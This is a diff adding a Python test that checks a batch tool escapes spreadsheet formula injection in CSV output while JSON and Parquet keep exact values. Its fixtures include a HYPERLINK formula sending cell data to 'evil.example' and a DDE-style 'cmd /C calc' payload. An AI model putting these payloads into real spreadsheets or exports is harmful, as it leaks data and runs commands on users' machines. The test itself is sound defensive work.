@@ -265,3 +265,42 @@ def test_deep_html_nesting_and_huge_tags_say_what_happened():
         prepare_text(SourceRecord(id="x", path="x", kind="html", content=huge))
     shallow = "<html><body>" + "<div>" * 20 + p + "</div>" * 20 + "</body></html>"
     assert "Onodera" in prepare_text(SourceRecord(id="x", path="x", kind="html", content=shallow)).text
+
+
+def test_csv_cells_never_start_a_formula_but_parquet_and_json_stay_exact(tmp_path):
+    import csv
+
+    import pyarrow.parquet as pq
+
+    from dialogue_extract.batch import CSV_FORMULA_STARTS, TABLES, csv_cell
+
+    evil_id = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    evil_text = '=HYPERLINK("http://evil.example/","open") ' + RELEASE
+    path = tmp_path / "recs.jsonl"
+    with path.open("w", encoding="utf-8") as fh:
+        fh.write(json.dumps({"id": evil_id, "text": evil_text}) + "\n")
+        fh.write(json.dumps({"id": "+cmd|' /C calc'!A0", "text": RELEASE}) + "\n")
+        fh.write(json.dumps({"id": "-2+3", "text": RELEASE}) + "\n")
+        fh.write(json.dumps({"id": "@SUM(1)", "text": RELEASE}) + "\n")
+        fh.write(json.dumps({"id": "\tTAB", "text": RELEASE}) + "\n")
+        fh.write(json.dumps({"id": "plain", "text": RELEASE}) + "\n")
+    ids = [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]
+    s = run_batch([path], tmp_path / "csv", table_format="csv", progress=False)
+    assert s.succeeded == 6 and s.failed == 0
+    for name in TABLES:
+        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        assert rows[1:], name  # every table has rows for these releases
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell or cell[0] not in CSV_FORMULA_STARTS, (name, cell)
+        doc_ids = {row[0] for row in rows[1:]}
+        assert "'" + evil_id in doc_ids and "plain" in doc_ids
+    # JSON and Parquet keep the exact values
+    docs = {d["id"]: d for d in read_documents(tmp_path / "csv" / DOCUMENTS_FILE)}
+    assert set(docs) == set(ids) and docs[evil_id]["text"] == evil_text
+    s = run_batch([path], tmp_path / "pq", progress=False)
+    assert set(pq.read_table(tmp_path / "pq" / "officials.parquet").column("doc_id").to_pylist()) == set(ids)
+    # the helper itself: numbers and harmless text unchanged
+    assert csv_cell(-3) == -3 and csv_cell("Tokyo") == "Tokyo" and csv_cell("") == ""
+    assert csv_cell("\r=1") == "'\r=1" and csv_cell("\uff1d1+1") == "'\uff1d1+1"
